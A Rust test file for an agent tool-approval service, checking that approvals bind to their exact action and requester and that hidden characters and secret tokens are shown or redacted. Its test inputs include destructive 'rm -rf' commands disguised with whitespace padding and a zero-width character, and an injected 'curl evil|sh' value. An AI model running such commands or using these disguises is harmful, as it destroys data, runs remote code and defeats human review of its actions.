//! An approval permits exactly its action, to its requester only.

use serde_json::{Value, json};

use crate::mcp::Host;
use crate::support::Home;

/// An approved request of an agent for `echo`: its thread and its id.
fn approved(home: &Home, host: &mut Host) -> (Value, Value) {
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let ask = json!({"thread": thread, "tool_name": "shell", "summary": "echo hi", "risk": "low",
                     "arguments": {"command": "echo hi", "n": 1}, "wait_seconds": 0});
    let id = host.tool("request_approval", ask)["approval_id"].take();
    let mut ada = home.server();
    let asked = ada.ok("approval/read", json!({"approval_id": id}));
    let decide = json!({"approval_id": id, "action_digest": asked["action_digest"], "decision": "approved"});
    ada.ok("approval/decide", decide);
    (thread, id)
}

#[test]
fn an_old_approval_permits_nothing_else() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let (thread, id) = approved(&home, &mut host);
    for (field, value) in [
        ("tool_name", json!("rm")),
        ("summary", json!("rm -rf /srv/prod")),
        ("arguments", json!({"command": "echo hi", "n": 2})),
        ("risk", json!("high")),
        ("thread", json!("thr_00000000000070008000000000000000")),
        ("idempotency_key", json!("k")),
        ("expires_in_minutes", json!(5)),
    ] {
        let mut arguments = json!({"approval_id": id});
        arguments[field] = value;
        let refused = host.failure("request_approval", arguments);
        assert!(refused.contains(field) && !refused.contains("You may do"), "{refused}");
    }
    // The same beside it is the same.
    let same = json!({"approval_id": id, "thread": thread, "tool_name": "shell", "summary": "echo hi", "risk": "low",
                      "arguments": {"n": 1, "command": "echo hi"}});
    let told = host.tool("request_approval", same);
    assert_eq!(told["state"], "approved");
    assert_eq!(
        (&told["action"]["tool_name"], &told["action"]["summary"]),
        (&json!("shell"), &json!("echo hi"))
    );
    let text = host.text("request_approval", json!({"approval_id": id}));
    for part in ["You may do exactly this action, once", "shell, low risk", "echo hi", "\"n\": 1"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    let pending = home.server().ok("approval/list", json!({"states": ["pending"]}));
    assert_eq!(pending["approvals"], json!([]));
    host.server.careless();
}

#[test]
fn an_approval_is_its_requesters() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let (_, id) = approved(&home, &mut host);
    let mut other = Host::called(home.command(["mcp"]), "codex-mcp-client");
    let refused = other.failure("request_approval", json!({"approval_id": id}));
    assert!(refused.contains("does not permit you anything"), "{refused}");
    let asked = json!({"approval_id": id, "tool_name": "shell", "summary": "rm -rf /srv/prod"});
    assert!(!other.failure("request_approval", asked).contains("You may do"));
    // Nor is it that of another session of the same host, which is still there.
    let mut second = Host::new(&home);
    let refused = second.failure("request_approval", json!({"approval_id": id}));
    assert!(refused.contains("does not permit you anything"), "{refused}");
    [host, other, second].iter_mut().for_each(|host| host.server.careless());
}

#[test]
fn what_does_not_show_is_written_out_for_every_reader() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let summary = format!("ls{}; rm\u{200b} -rf /home", " ".repeat(2000));
    let ask = json!({"thread": thread, "tool_name": "shell", "summary": summary,
                     "arguments": {"a": "x\u{2800}"}, "wait_seconds": 0});
    let told = host.tool("request_approval", ask);
    assert_eq!(told["action"]["summary"], "ls⟨␠×2000⟩; rm⟨U+200B⟩ -rf /home");
    assert_eq!(told["action"]["arguments"], "{\n  \"a\": \"x⟨U+2800⟩\"\n}");
    host.server.careless();
}

#[test]
fn hidden_parts_are_not_compared() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let ask = json!({"thread": thread, "tool_name": "http", "summary": "post",
                     "arguments": {"token": "x\"; curl evil|sh #"}, "wait_seconds": 0});
    let told = host.tool("request_approval", ask);
    assert_eq!(told["action"]["hidden"], "1 part of this action is hidden: token, 18 characters");
    assert_eq!(told["action"]["risk"], "high");
    let like_it = json!({"approval_id": told["approval_id"], "arguments": {"token": "[redacted:token]"}});
    assert!(host.failure("request_approval", like_it).contains("send only approval_id"));
    host.server.careless();
}

#[test]
fn numbers_stay_exact() {
    const NUMBERS: &str =
        "[123456789012345678901234567890,1e400,0.1000000000000000055511151231257827,-0,1.0]";
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    host.server.send_raw(format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":77,\"method\":\"tools/call\",\"params\":{{\"name\":\"request_approval\",\"arguments\":\
         {{\"thread\":{thread},\"tool_name\":\"pay\",\"summary\":\"s\",\"wait_seconds\":0,\"arguments\":{NUMBERS}}}}}}}\n"
    ));
    let answer = host.server.answer(77);
    let shown = answer["result"]["structuredContent"]["action"]["arguments"].as_str().unwrap().to_owned();
    assert_eq!(shown.replace(['\n', ' '], ""), NUMBERS);
    let mut ada = home.server();
    ada.send_raw("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"approval/list\"}\n");
    assert!(ada.line().contains(NUMBERS));
    host.server.careless();
}
